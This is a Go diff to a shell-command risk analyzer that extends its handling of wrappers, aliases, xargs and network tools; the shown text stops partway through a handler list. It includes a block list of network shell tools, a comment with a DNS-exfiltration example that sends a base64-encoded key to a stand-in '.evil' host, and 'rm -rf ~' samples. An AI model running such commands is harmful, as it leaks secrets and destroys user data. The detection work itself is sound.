@@ -1,6 +1,7 @@
 package risk
 
 import (
+	"path"
 	"strings"
 
 	"github.com/airlockhq/airlock/app/internal/level"
@@ -31,25 +32,35 @@ func (c *call) add(l level.Level, rule, format string, args ...any) {
 // wrappers run the rest of their arguments as a command. The value is the
 // set of short options that take a value, so `sudo -u bob rm` finds rm.
 var wrappers = map[string]string{
-	"sudo": "ugCDhpRrtTU", "doas": "uC", "env": "uCS", "nohup": "", "time": "", "nice": "n",
+	"sudo": "ugCDhpRrtTU", "doas": "uC", "env": "uCSPLUa", "nohup": "", "time": "", "nice": "n",
 	"ionice": "cnp", "timeout": "sk", "gtimeout": "sk", "command": "", "exec": "a", "builtin": "",
 	"caffeinate": "tw", "stdbuf": "ioe", "chroot": "", "arch": "e", "setsid": "", "unbuffer": "",
-	"noglob": "", "nocorrect": "", "watch": "nd", "xargs": "nIILPsEadS", "flock": "wE", "taskset": "",
-	"chrt": "", "script": "Ft", "then": "", "do": "", "sh-wrapper": "",
+	"noglob": "", "nocorrect": "", "watch": "nd", "xargs": "", "flock": "wE", "taskset": "",
+	"chrt": "", "script": "Ft", "then": "", "do": "", "sh-wrapper": "", "sandbox-exec": "fpnD",
 }
 
 // peel strips wrappers (sudo, env, nohup, xargs, timeout …) and returns the
-// command they run. With report set it rates the wrappers on the way.
-func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []word, bulk bool) {
+// command they run, and the word that named it. With report set it rates
+// the wrappers on the way.
+func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []word, bulk bool, head word) {
 	for len(words) > 0 {
 		w := words[0]
 		if w.hole || w.glob {
-			return "", words, bulk
+			return "", words, bulk, w
 		}
 		name = commandName(w.s)
+		if t, ok := a.rebind[name]; ok {
+			if report {
+				a.add(level.Dangerous, "shell.rebind", sp, "hash makes %s run another command", display(name))
+			}
+			if t == "" {
+				return "", append([]word{{s: holeMark, hole: true, span: w.span}}, words[1:]...), bulk, w
+			}
+			name = t
+		}
 		opts, ok := wrappers[name]
 		if !ok {
-			return name, words[1:], bulk
+			return name, words[1:], bulk, w
 		}
 		rest := words[1:]
 		switch name {
@@ -59,10 +70,18 @@ func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []
 			}
 		case "command":
 			if hasShort(rest, 'v') || hasShort(rest, 'V') {
-				return "command", rest, bulk // a lookup, not a run
+				return "command", rest, bulk, w // a lookup, not a run
 			}
 		case "xargs":
-			bulk = true
+			var repl string
+			rest, repl = xargsOptions(rest)
+			if repl != "" {
+				// -I {} puts each input line where {} is: those words are
+				// computed at run time.
+				rest = replaceHoles(rest, repl)
+			} else {
+				bulk = true
+			}
 		case "env":
 			// env -S splits its string into words: env -S 'rm -rf ~'
 			for i, r := range rest {
@@ -81,13 +100,20 @@ func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []
 				before := len(rest)
 				rest = skipOptions(rest, opts)
 				for len(rest) > 0 && strings.Contains(rest[0].s, "=") && !strings.HasPrefix(rest[0].s, "-") {
+					if report {
+						n, v, _ := strings.Cut(rest[0].s, "=")
+						a.envVar(n, word{s: v, hole: rest[0].hole}, sp)
+					}
 					rest = rest[1:]
 				}
 				if len(rest) == before {
 					break
 				}
 			}
-		case "timeout", "gtimeout", "watch", "flock", "chroot", "taskset", "chrt":
+		case "sandbox-exec":
+			if report {
+				a.add(level.Caution, "shell.sandbox-exec", sp, "sandbox-exec: runs a command under a sandbox profile")
+			}
 		}
 		rest = skipOptions(rest, opts)
 		switch name {
@@ -103,13 +129,94 @@ func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []
 			if len(rest) > 0 {
 				rest = rest[1:] // the typescript file
 			}
+		case "watch":
+			// watch runs its arguments, joined, with sh -c.
+			if len(rest) > 0 {
+				joined := word{span: rest[0].span}
+				for i, r := range rest {
+					if i > 0 {
+						joined.s += " "
+					}
+					joined.s += r.s
+					joined.hole = joined.hole || r.hole
+				}
+				rest = []word{{s: "sh", span: rest[0].span}, {s: "-c", span: rest[0].span}, joined}
+			}
 		}
 		if len(rest) == 0 {
-			return "wrapper-alone", nil, bulk
+			return "wrapper-alone", nil, bulk, w
 		}
 		words = rest
 	}
-	return "", nil, bulk
+	return "", nil, bulk, word{}
+}
+
+// xargsOptions skips xargs's options (BSD and GNU) and returns the
+// replacement string of -I, -J, -i or --replace, if any.
+func xargsOptions(ws []word) ([]word, string) {
+	repl := ""
+	for len(ws) > 0 {
+		s := ws[0].s
+		if ws[0].hole || !strings.HasPrefix(s, "-") || s == "-" {
+			break
+		}
+		ws = ws[1:]
+		if s == "--" {
+			break
+		}
+		if strings.HasPrefix(s, "--") {
+			name, val, hasVal := strings.Cut(s, "=")
+			switch name {
+			case "--replace":
+				repl = "{}"
+				if hasVal {
+					repl = val
+				}
+			case "--max-args", "--max-procs", "--delimiter", "--arg-file", "--eof", "--max-chars", "--max-lines", "--process-slot-var":
+				if !hasVal && len(ws) > 0 {
+					ws = ws[1:]
+				}
+			}
+			continue
+		}
+		letters := s[1:]
+		for i := 0; i < len(letters); i++ {
+			c := letters[i]
+			switch {
+			case strings.IndexByte("IJEnLPsSRad", c) >= 0:
+				val := letters[i+1:]
+				if val == "" && len(ws) > 0 {
+					val = ws[0].s
+					ws = ws[1:]
+				}
+				if c == 'I' || c == 'J' {
+					repl = val
+				}
+				i = len(letters)
+			case c == 'i': // GNU -i[R]
+				repl = letters[i+1:]
+				if repl == "" {
+					repl = "{}"
+				}
+				i = len(letters)
+			case c == 'e' || c == 'l': // GNU -e[EOF], -l[N]
+				i = len(letters)
+			}
+		}
+	}
+	return ws, repl
+}
+
+// replaceHoles turns every word holding repl into a computed word.
+func replaceHoles(ws []word, repl string) []word {
+	out := make([]word, len(ws))
+	for i, w := range ws {
+		if strings.Contains(w.s, repl) {
+			w = word{s: strings.ReplaceAll(w.s, repl, holeMark), hole: true, span: w.span}
+		}
+		out[i] = w
+	}
+	return out
 }
 
 // skipOptions drops leading options; letters in valued take an argument.
@@ -150,11 +257,6 @@ func longTakesValue(s string) bool {
 	return false
 }
 
-func (a *shellAn) unwrap(words []word) (string, []word) {
-	name, args, _ := a.peel(words, Span{}, false)
-	return name, args
-}
-
 // call rates one simple command.
 func (a *shellAn) call(words []word, sp Span, pc pipeCtx) {
 	a.callOps(words, sp, pc, "", nil, nil)
@@ -169,7 +271,7 @@ func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, _ []word,
 			break
 		}
 	}
-	name, args, bulk := a.peel(words, sp, true)
+	name, args, bulk, head := a.peel(words, sp, true)
 	if name == "" {
 		if len(args) == 0 {
 			return
@@ -187,7 +289,7 @@ func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, _ []word,
 		}
 		a.add(l, "shell.dynamic-command", sp, "command name is %s (%s): cannot tell what runs", what, display(head.s))
 		for _, w := range args[1:] {
-			a.readSource(w, sp)
+			a.read(w, sp)
 		}
 		return
 	}
@@ -199,6 +301,26 @@ func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, _ []word,
 	if knownOps != nil && !bulk {
 		c.ops = knownOps
 	}
+	// ./i.sh, /tmp/x: running a file this same input wrote or downloaded.
+	if strings.Contains(head.s, "/") {
+		if _, ok := a.files[a.fileKey(head.s)]; ok {
+			a.runFile(c, head.s)
+			return
+		}
+	}
+	if v, ok := a.alias[name]; ok && a.inAlias < 8 && !strings.ContainsAny(v, ";&|<>()`$\"'\\\n") {
+		// An alias with a plain value: ll='rm -rf'; ll ~ runs rm -rf ~.
+		var expanded []word
+		for _, f := range strings.Fields(v) {
+			expanded = append(expanded, word{s: f, span: sp})
+		}
+		if len(expanded) > 0 && commandName(expanded[0].s) != name {
+			a.inAlias++
+			a.callOps(append(expanded, args...), sp, pc, "", nil, nil)
+			a.inAlias--
+			return
+		}
+	}
 	if a.funcs[name] {
 		return // the script's own function or alias: its body is analysed where it is defined
 	}
@@ -209,12 +331,29 @@ func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, _ []word,
 	} else {
 		c.add(level.Dangerous, "unknown-command", "unknown command %q: cannot tell what it does", display(name))
 	}
+	if netTools[name] || lookupTools[name] && !allKnown(c.args) {
+		// Whatever it sends can carry what the script read.
+		a.uploadAt(sp)
+	}
 	// Reading from credential stores, whatever the command.
 	if !noPathRead[name] {
 		for _, w := range operands(args) {
-			a.readSource(w, sp)
+			a.read(w, sp)
 		}
 	}
+}
+
+// netTools send data over the network; lookupTools do when a name they
+// look up is computed (DNS exfiltration: dig "$(base64 < key).evil").
+var netTools = map[string]bool{
+	"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "ssh": true,
+	"scp": true, "sftp": true, "ftp": true, "http": true, "https": true, "aria2c": true, "mail": true, "mailx": true,
+	"sendmail": true, "smbclient": true, "rclone": true, "lwp-request": true, "fetch": true,
+}
+
+var lookupTools = map[string]bool{
+	"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "whois": true,
+	"dscacheutil": true, "drill": true,
 }
 
 // noPathRead lists commands whose operands are not file contents they read.
@@ -322,9 +461,11 @@ func prefixCommand(name string) func(*call) {
 	case strings.HasPrefix(name, "mkfs") || strings.HasPrefix(name, "newfs"):
 		return func(c *call) { c.add(level.Destructive, "mkfs", "%s: formats a disk", c.name) }
 	case strings.HasPrefix(name, "python") || strings.HasPrefix(name, "pypy"):
-		return interpreter("c")
-	case strings.HasPrefix(name, "perl") || strings.HasPrefix(name, "ruby"):
-		return interpreter("e")
+		return interpreter(pythonSpec)
+	case strings.HasPrefix(name, "perl"):
+		return interpreter(perlSpec)
+	case strings.HasPrefix(name, "ruby"):
+		return interpreter(rubySpec)
 	}
 	return nil
 }
@@ -619,29 +760,9 @@ func init() {
 		}
 	}
 	shellCommands["osascript"] = osascriptCommand
-	shellCommands["node"] = interpreter("e")
-	shellCommands["swift"] = interpreter("e")
 	shellCommands["awk"] = awkCommand
 	shellCommands["gawk"] = awkCommand
-	shellCommands["sed"] = func(c *call) {
-		if hasShort(c.args, 'i') || hasLong(c.args, "--in-place") {
-			c.add(level.Caution, "sed", "sed -i: edits files in place")
-			c.writeOperands("edits")
-		}
-	}
-	shellCommands["xcrun"] = func(c *call) {
-		ops := c.operands()
-		if len(ops) >= 2 && strings.EqualFold(ops[0].s, "simctl") {
-			switch strings.ToLower(ops[1].s) {
-			case "list", "help", "getenv", "listapps", "appinfo", "get_app_container":
-				return
-			case "erase", "delete", "uninstall":
-				c.add(level.Dangerous, "simctl", "simctl %s: wipes simulator data", ops[1].s)
-				return
-			}
-		}
-		c.add(level.Caution, "xcrun", "xcrun: runs a developer tool")
-	}
+
 	shellCommands["caffeinate"] = safe
 	shellCommands["wrapper-alone"] = safe
 	shellCommands["alias"] = func(c *call) {
@@ -684,6 +805,7 @@ func init() {
 			c.a.secretAt(c.span)
 		}
 	}
+	moreCommands()
 }
 
 func getterSetter(read ...string) func(*call) {
@@ -717,7 +839,7 @@ func rmCommand(c *call) {
 		if w.glob || w.hole {
 			c.add(level.Destructive, "rm-bulk", "rm %s: permanently deletes every file the pattern or computed value matches", display(w.s))
 		}
-		if z := c.a.zone(w); z.critical() {
+		if z := c.a.zoneOf(w); z.critical() {
 			c.add(level.Destructive, "rm-protected", "rm %s: deletes inside %s", display(w.s), z.detail)
 		}
 	}
@@ -762,7 +884,7 @@ func permCommand(c *call) {
 	l := level.Caution
 	why := "changes permissions"
 	for _, w := range ops {
-		z := c.a.zone(w)
+		z := c.a.zoneOf(w)
 		broad := w.glob || w.hole || z.homeRoot || z.kind == zoneSystem || w.s == "/"
 		switch {
 		case recursive && broad:
@@ -805,77 +927,6 @@ func findCommand(c *call) {
 	}
 }
 
-func gitCommand(c *call) {
-	// Global options before the subcommand, some with a value: git -C dir clean.
-	for len(c.args) > 0 && strings.HasPrefix(c.args[0].s, "-") {
-		opt := c.args[0].s
-		c.args = c.args[1:]
-		if (opt == "-C" || opt == "-c" || opt == "--git-dir" || opt == "--work-tree" || opt == "--namespace" || opt == "--exec-path") && len(c.args) > 0 {
-			c.args = c.args[1:]
-		}
-		c.ops = nil // the operands change with the arguments
-	}
-	ops := c.operands()
-	s := sub(c.args)
-	rest := c.args
-	for i, w := range c.args {
-		if strings.EqualFold(w.s, s) {
-			rest = c.args[i+1:]
-			break
-		}
-	}
-	switch s {
-	case "status", "log", "diff", "show", "rev-parse", "describe", "blame", "grep", "ls-files", "shortlog",
-		"remote", "config", "version", "help", "ls-remote", "cat-file", "rev-list", "whatchanged", "":
-		if s == "remote" || s == "config" {
-			if len(ops) > 1 && !strings.HasPrefix(strings.ToLower(ops[1].s), "get") && ops[1].s != "-v" && ops[1].s != "show" {
-				c.add(level.Caution, "git", "git %s: changes repository settings", s)
-			}
-		}
-	case "clean":
-		if hasShort(rest, 'f') || hasLong(rest, "--force") {
-			c.add(level.Destructive, "git-clean", "git clean -f: permanently deletes untracked files")
-		} else {
-			c.add(level.Caution, "git", "git clean")
-		}
-	case "reset":
-		if hasLong(rest, "--hard", "--merge", "--keep") {
-			c.add(level.Destructive, "git-reset", "git reset --hard: discards uncommitted work irreversibly")
-		} else {
-			c.add(level.Caution, "git", "git reset: moves the branch")
-		}
-	case "checkout", "restore":
-		if hasArg(rest, ".", "--", ":/", "*") || hasLong(rest, "--force") || hasShort(rest, 'f') {
-			c.add(level.Dangerous, "git-discard", "git %s: discards uncommitted changes", s)
-		} else {
-			c.add(level.Caution, "git", "git %s: changes the working tree", s)
-		}
-	case "push":
-		if hasShort(rest, 'f') || hasLong(rest, "--force", "--force-with-lease", "--mirror", "--delete", "--prune") || hasShort(rest, 'd') {
-			c.add(level.Dangerous, "git-push-force", "git push --force/--delete: rewrites or deletes remote history")
-		} else {
-			c.add(level.Caution, "git", "git push: publishes commits")
-		}
-	case "branch":
-		if hasShort(rest, 'D') || hasLong(rest, "--delete") && hasLong(rest, "--force") {
-			c.add(level.Dangerous, "git-branch-delete", "git branch -D: deletes a branch with unmerged work")
-		}
-	case "stash":
-		if hasArg(rest, "drop", "clear") {
-			c.add(level.Dangerous, "git-stash-drop", "git stash drop/clear: discards stashed work")
-		} else {
-			c.add(level.Caution, "git", "git stash")
-		}
-	case "filter-branch", "filter-repo", "update-ref", "gc", "prune", "reflog":
-		if s == "reflog" && !hasArg(rest, "expire", "delete") {
-			return
-		}
-		c.add(level.Dangerous, "git-history", "git %s: rewrites or prunes history", s)
-	default:
-		c.add(level.Caution, "git", "git %s: changes the repository", display(s))
-	}
-}
-
 func dockerCommand(c *call) {
 	ops := c.operands()
 	if len(ops) == 0 {
@@ -902,30 +953,6 @@ func dockerCommand(c *call) {
 		c.add(level.Caution, "docker", "docker %s", s)
 	default:
 		c.add(level.Dangerous, "docker", "docker %s: runs or changes containers", s)
-	}
-}
-
-func defaultsCommand(c *call) {
-	s := sub(c.args)
-	switch s {
-	case "read", "read-type", "domains", "find", "export", "help", "":
-	case "write", "delete", "import", "rename":
-		ops := c.operands()
-		domain := ""
-		if len(ops) > 1 {
-			domain = strings.ToLower(ops[1].s)
-		}
-		if strings.Contains(domain, "loginwindow") && hasArg(c.args, "LoginHook", "LogoutHook") {
-			c.add(level.Destructive, "defaults-hook", "defaults write … LoginHook: runs a script at every login (persistence)")
-			return
-		}
-		if cosmeticDomains[domain] && s == "write" {
-			c.add(level.Caution, "defaults-write", "defaults write %s: changes how %s looks or behaves", domain, domain)
-			return
-		}
-		c.add(level.Dangerous, "defaults-write", "defaults %s: changes preferences", s)
-	default:
-		c.add(level.Dangerous, "defaults", "defaults %s: changes preferences", display(s))
 	}
 }
 
@@ -960,160 +987,6 @@ func securityCommand(c *call) {
 	default:
 		c.add(level.Dangerous, "keychain", "security %s: changes Keychain settings", s)
 	}
-}
-
-func killCommand(c *call) {
-	forced := false
-	for _, w := range c.args {
-		switch strings.ToUpper(w.s) {
-		case "-9", "-KILL", "-SIGKILL", "--SIGNAL=KILL", "-S9":
-			forced = true
-		}
-	}
-	for i, w := range c.args {
-		if (w.s == "-s" || w.s == "--signal") && i+1 < len(c.args) && strings.Contains(strings.ToUpper(c.args[i+1].s), "KILL") || w.s == "9" && i > 0 && c.args[i-1].s == "-s" {
-			forced = true
-		}
-	}
-	for _, w := range c.operands() {
-		switch strings.ToLower(w.s) {
-		case "windowserver", "loginwindow", "launchd", "kernel_task", "1", "-1", "systemuiserver":
-			c.add(level.Dangerous, "kill-system", "%s %s: kills a process the session depends on", c.name, w.s)
-		}
-	}
-	if forced {
-		c.add(level.Dangerous, "kill-forced", "%s -9: force-kills processes; unsaved work is lost", c.name)
-		return
-	}
-	c.add(level.Caution, "kill", "%s: stops processes", c.name)
-}
-
-func curlCommand(c *call) {
-	upload := false
-	for i, w := range c.args {
-		s := w.s
-		next := func() (word, bool) {
-			if i+1 < len(c.args) {
-				return c.args[i+1], true
-			}
-			return word{}, false
-		}
-		switch {
-		case s == "-T" || s == "--upload-file" || s == "-F" || s == "--form" || strings.HasPrefix(s, "--data") || s == "-d" || s == "--json":
-			upload = true
-			if v, ok := next(); ok {
-				data := v.s
-				if j := strings.Index(data, "@"); j >= 0 {
-					data = data[j+1:]
-				}
-				c.a.readSource(word{s: data, hole: v.hole}, c.span)
-				if s == "-T" || s == "--upload-file" {
-					c.a.readSource(v, c.span)
-				}
-			}
-		case strings.HasPrefix(s, "-d") && len(s) > 2 || strings.HasPrefix(s, "-F") && len(s) > 2 || strings.HasPrefix(s, "-T") && len(s) > 2:
-			upload = true
-		case s == "-X" || s == "--request":
-			if v, ok := next(); ok && !strings.EqualFold(v.s, "GET") && !strings.EqualFold(v.s, "HEAD") {
-				upload = true
-			}
-		case s == "-o" || s == "--output" || strings.HasPrefix(s, "-") && !strings.HasPrefix(s, "--") && strings.HasSuffix(s, "o"):
-			if v, ok := next(); ok {
-				c.a.writeTarget(v, c.span, "downloads into")
-				if !v.hole {
-					c.a.setFile(v.s, fileDownloaded)
-				}
-			}
-		}
-	}
-	if upload {
-		c.add(level.Dangerous, "upload", "%s: sends data to a server", c.name)
-		c.a.uploadAt(c.span)
-		return
-	}
-	c.add(level.Caution, "download", "%s: fetches from the network", c.name)
-}
-
-func wgetCommand(c *call) {
-	for i, w := range c.args {
-		switch {
-		case strings.HasPrefix(w.s, "--post-") || strings.HasPrefix(w.s, "--body-") || w.s == "--method=POST" || w.s == "--method=PUT":
-			c.add(level.Dangerous, "upload", "wget %s: sends data to a server", w.s)
-			c.a.uploadAt(c.span)
-			if strings.HasPrefix(w.s, "--post-file") || strings.HasPrefix(w.s, "--body-file") {
-				if v := strings.TrimPrefix(strings.TrimPrefix(w.s, "--post-file="), "--body-file="); v != w.s {
-					c.a.readSource(word{s: v}, c.span)
-				} else if i+1 < len(c.args) {
-					c.a.readSource(c.args[i+1], c.span)
-				}
-			}
-			return
-		case (w.s == "-O" || w.s == "--output-document") && i+1 < len(c.args):
-			c.a.writeTarget(c.args[i+1], c.span, "downloads into")
-			if !c.args[i+1].hole {
-				c.a.setFile(c.args[i+1].s, fileDownloaded)
-			}
-		}
-	}
-	c.add(level.Caution, "download", "wget: fetches from the network")
-}
-
-// copyRemote rates scp and rsync: a host:path operand sends or fetches
-// files over the network; rsync --delete deletes at the destination.
-func copyRemote(c *call) {
-	ops := c.operands()
-	remote := false
-	for _, w := range ops {
-		if i := strings.Index(w.s, ":"); i > 0 && !strings.Contains(w.s[:i], "/") {
-			remote = true
-		}
-	}
-	if hasLong(c.args, "--delete", "--delete-after", "--delete-before", "--delete-during", "--delete-excluded", "--remove-source-files") {
-		c.add(level.Dangerous, "rsync-delete", "%s --delete: deletes files at the destination", c.name)
-	}
-	if remote {
-		c.add(level.Dangerous, "upload", "%s: copies files to or from another machine", c.name)
-		c.a.uploadAt(c.span)
-		for _, w := range ops[:max(0, len(ops)-1)] {
-			c.a.readSource(w, c.span)
-		}
-		return
-	}
-	c.add(level.Caution, c.name, "%s: copies files", c.name)
-	c.writeDest()
-}
-
-func openCommand(c *call) {
-	for i, w := range c.args {
-		if (w.s == "-a" || w.s == "-b") && i+1 < len(c.args) {
-			app := strings.ToLower(c.args[i+1].s)
-			if strings.Contains(app, "terminal") || strings.Contains(app, "iterm") || strings.Contains(app, "warp") ||
-				strings.Contains(app, "alacritty") || strings.Contains(app, "kitty") || strings.Contains(app, "script editor") || c.args[i+1].hole {
-				c.add(level.Dangerous, "open-terminal", "open -a %s: opens a terminal or script runner", display(c.args[i+1].s))
-				return
-			}
-		}
-	}
-	for _, w := range c.operands() {
-		s := strings.ToLower(w.s)
-		if scheme, ok := urlScheme(s); ok {
-			if l, why := schemeRisk(scheme); l > level.Caution {
-				c.add(l, "open-url", "open %s: %s", display(w.s), why)
-				continue
-			}
-			c.add(level.Caution, "open-url", "open: opens a web page")
-			continue
-		}
-		for _, ext := range []string{".app", ".command", ".tool", ".sh", ".terminal", ".pkg", ".mpkg", ".workflow", ".scpt", ".applescript", ".dmg"} {
-			if strings.HasSuffix(strings.TrimSuffix(s, "/"), ext) {
-				c.add(level.Dangerous, "open-executable", "open %s: launches something that runs code", display(w.s))
-			}
-		}
-		if w.hole {
-			c.add(level.Dangerous, "open-computed", "open: opens something computed at run time")
-		}
-	}
-	c.add(level.Caution, "open", "open: opens a file, folder or application")
 }
 
 func urlScheme(s string) (string, bool) {
@@ -1152,10 +1025,19 @@ func schemeRisk(scheme string) (level.Level, string) {
 // shellInterp rates sh, bash, zsh …: -c strings are analysed recursively;
 // reading commands from a download or decoded data is Destructive.
 func shellInterp(c *call) {
-	for i, w := range c.args {
+	for i := 0; i < len(c.args); i++ {
+		w := c.args[i]
 		s := w.s
 		if s == "--" {
 			break
+		}
+		// Options with a value: -o pipefail, +O extglob, --rcfile FILE.
+		if !w.hole && (s == "-o" || s == "+o" || s == "-O" || s == "+O" || s == "--rcfile" || s == "--init-file") {
+			i++
+			continue
+		}
+		if len(s) > 1 && s[0] == '+' && !w.hole {
+			continue // +x, +e: options turned off
 		}
 		if len(s) > 1 && s[0] == '-' && s[1] != '-' && strings.IndexByte(s[1:], 'c') >= 0 && !w.hole {
 			if i+1 >= len(c.args) {
@@ -1181,27 +1063,6 @@ func shellInterp(c *call) {
 	c.fromStdin()
 }
 
-// fromStdin rates an interpreter that reads its program from stdin.
-func (c *call) fromStdin() {
-	switch c.pc.stdin {
-	case "download":
-		c.add(level.Destructive, "curl-pipe-sh", "%s reads commands from a download: runs code from the network unseen", c.name)
-	case "decoded":
-		c.add(level.Destructive, "decoded-exec", "%s runs decoded or transformed data as commands", c.name)
-	case "text":
-		if shells[c.name] {
-			c.nested([]word{{s: c.pc.text}}, c.name)
-		} else {
-			c.add(level.Dangerous, "interp-stdin", "%s runs a program that is not analysed", c.name)
-			scanCode(c, c.pc.text)
-		}
-	case "computed":
-		c.add(level.Destructive, "stdin-computed", "%s runs commands computed at run time", c.name)
-	case "pipe":
-		c.add(level.Destructive, "pipe-exec", "%s runs another program's output as commands", c.name)
-	}
-}
-
 // nested analyses words as a shell script (sh -c, eval).
 func (c *call) nested(ws []word, what string) {
 	var parts []string
@@ -1214,7 +1075,7 @@ func (c *call) nested(ws []word, what string) {
 	}
 	src := strings.Join(parts, " ")
 	sp := c.span
-	shellInto(c.a.v, src, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1)
+	c.adopt(shellRun(c.a.v, src, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1, c.a.sh))
 }
 
 func anchorOr(a, b *Span) *Span {
@@ -1222,136 +1083,6 @@ func anchorOr(a, b *Span) *Span {
 		return a
 	}
 	return b
-}
-
-func osascriptCommand(c *call) {
-	c.add(level.Dangerous, "osascript", "osascript: runs AppleScript or JavaScript for Automation")
-	jxa := false
-	var lines []string
-	file := false
-	for i := 0; i < len(c.args); i++ {
-		w := c.args[i]
-		switch {
-		case w.s == "-l" && i+1 < len(c.args):
-			jxa = strings.EqualFold(c.args[i+1].s, "JavaScript")
-			i++
-		case w.s == "-e" && i+1 < len(c.args):
-			if c.args[i+1].hole {
-				c.add(level.Destructive, "osascript-computed", "osascript -e with a script computed at run time")
-				return
-			}
-			lines = append(lines, c.args[i+1].s)
-			i++
-		case strings.HasPrefix(w.s, "-"):
-		default:
-			if len(lines) == 0 {
-				file = true
-			}
-			i = len(c.args)
-		}
-	}
-	src := strings.Join(lines, "\n")
-	if len(lines) == 0 {
-		if file {
-			c.add(level.Dangerous, "osascript-file", "osascript runs a script file that is not analysed")
-			return
-		}
-		switch c.pc.stdin {
-		case "text":
-			src = c.pc.text
-		case "":
-			return
-		default:
-			c.fromStdin()
-			return
-		}
-	}
-	sp := c.span
-	at := anchorOr(c.a.anchor, &sp)
-	if c.a.depth+1 > maxDepth {
-		c.add(level.Destructive, "too-deep", "scripts nested too deeply: not analysed")
-		return
-	}
-	var inner Verdict
-	if jxa {
-		inner = jxaAt(src, c.a.env, c.a.depth+1)
-	} else {
-		inner = appleScriptAt(src, c.a.env, c.a.depth+1)
-	}
-	c.a.v.merge(inner, at)
-}
-
-// interpreter rates python, perl, ruby, node …: their code is not analysed,
-// so they are at least Dangerous; plain keyword scanning raises that to
-// Destructive for deletion and shell-outs with destructive commands.
-func interpreter(codeFlag string) func(*call) {
-	return func(c *call) {
-		if len(c.args) == 0 {
-			c.fromStdin()
-			if c.pc.stdin == "" {
-				return
-			}
-			return
-		}
-		for i, w := range c.args {
-			s := w.s
-			if s == "--version" || s == "-V" || s == "--help" || s == "-h" || s == "-v" && len(c.args) == 1 {
-				return
-			}
-			if len(s) > 1 && s[0] == '-' && s[1] != '-' && strings.ContainsAny(s[1:], codeFlag) {
-				c.add(level.Dangerous, "interp-code", "%s runs inline code that is not analysed", c.name)
-				if i+1 < len(c.args) {
-					if c.args[i+1].hole {
-						c.add(level.Destructive, "interp-computed", "%s runs code computed at run time", c.name)
-					}
-					scanCode(c, c.args[i+1].s)
-				}
-				return
-			}
-			if s == "-" {
-				c.fromStdin()
-				return
-			}
-			if !strings.HasPrefix(s, "-") {
-				if s == "-m" {
-					continue
-				}
-				c.add(level.Dangerous, "interp-file", "%s %s: runs a program that is not analysed", c.name, display(s))
-				return
-			}
-		}
-		c.fromStdin()
-	}
-}
-
-// scanCode looks through unanalysed program text for the obvious.
-func scanCode(c *call, code string) {
-	low := strings.ToLower(code)
-	for _, k := range []string{"rmtree", "unlink(", "os.remove", "remove_dir", "rm -rf", "rm -r", "fileutils.rm", "rmsync", "rimraf", "shutil.rmtree", "removeitematpath", "rm_rf"} {
-		if strings.Contains(low, k) {
-			c.add(level.Destructive, "interp-delete", "%s code deletes files (%s)", c.name, k)
-			return
-		}
-	}
-	for _, k := range []string{"os.system", "subprocess", "system(", "exec(", "popen", "spawn", "`", "eval("} {
-		if strings.Contains(low, k) {
-			c.add(level.Dangerous, "interp-shell", "%s code runs other commands (%s)", c.name, k)
-			return
-		}
-	}
-}
-
-func awkCommand(c *call) {
-	ops := c.operands()
-	if len(ops) > 0 {
-		prog := strings.ToLower(ops[0].s)
-		if strings.Contains(prog, "system(") || strings.Contains(prog, "| \"sh") || strings.Contains(prog, "|\"sh") || strings.Contains(prog, "| \"bash") || ops[0].hole {
-			c.add(level.Dangerous, "awk-system", "%s program runs shell commands", c.name)
-		}
-		if strings.Contains(prog, "> \"") || strings.Contains(prog, ">\"") {
-			c.add(level.Caution, "awk-write", "%s program writes files", c.name)
-		}
-	}
 }
 
 // writeDest checks the destination of cp, mv, ln, tee, touch, mkdir, install.
@@ -1367,10 +1098,10 @@ func (c *call) writeDest() {
 	case "cp", "mv", "ditto", "rsync", "install", "ln":
 		for _, w := range ops[:len(ops)-1] {
 			if c.name != "ln" {
-				c.a.readSource(w, c.span)
+				c.a.read(w, c.span)
 			}
 			if c.name == "mv" {
-				if z := c.a.zone(w); z.kind == zoneSystem || z.kind == zoneCredential || z.kind == zonePersistence {
+				if z := c.a.zoneOf(w); z.kind == zoneSystem || z.kind == zoneCredential || z.kind == zonePersistence {
 					c.add(level.Dangerous, "move-protected", "mv %s: moves something out of %s", display(w.s), z.detail)
 				}
 			}
@@ -1380,13 +1111,13 @@ func (c *call) writeDest() {
 		}
 	}
 	for _, w := range targets {
-		c.a.writeTarget(w, c.span, c.name+" writes to")
+		c.a.write(w, c.span, c.name+" writes to")
 	}
 }
 
 func (c *call) writeOperands(verb string) {
 	for _, w := range c.operands() {
-		c.a.writeTarget(w, c.span, verb)
+		c.a.write(w, c.span, verb)
 	}
 }
 
@@ -1398,10 +1129,508 @@ func isStdinPath(s string) bool {
 	return false
 }
 
+// moreCommands registers the handlers of commands that run other commands,
+// write files, or reach the network in ways their names do not show.
+func moreCommands() {
+	for n, h := range map[string]func(*call){
+		"kill": killCommand, "killall": killCommand, "pkill": killCommand,
+		"curl": curlCommand, "wget": wgetCommand, "scp": copyRemote, "rsync": copyRemote,
+		"open": openCommand, "osascript": osascriptCommand, "awk": awkCommand, "gawk": awkCommand,
+		"nawk": awkCommand, "mawk": awkCommand, "git": gitCommand, "defaults": defaultsCommand,
+		"su": suCommand, "at": atCommand, "batch": atCommand, "screen": screenCommand, "tmux": tmuxCommand,
+		"xcrun": xcrunCommand, "man": manCommand, "fd": fdCommand, "fdfind": fdCommand, "rg": rgCommand,
+		"plutil": plutilCommand, "plistbuddy": plistBuddyCommand, "sort": sortCommand, "uniq": uniqCommand,
+		"base64": base64Command, "xxd": xxdCommand, "sed": sedCommand, "gsed": sedCommand, "tar": tarCommand,
+		"bsdtar": tarCommand, "gtar": tarCommand, "unzip": unzipCommand, "chflags": chflagsCommand, "hash": hashCommand,
+		"launchctl": launchctlCommand, "node": interpreter(nodeSpec), "nodejs": interpreter(nodeSpec),
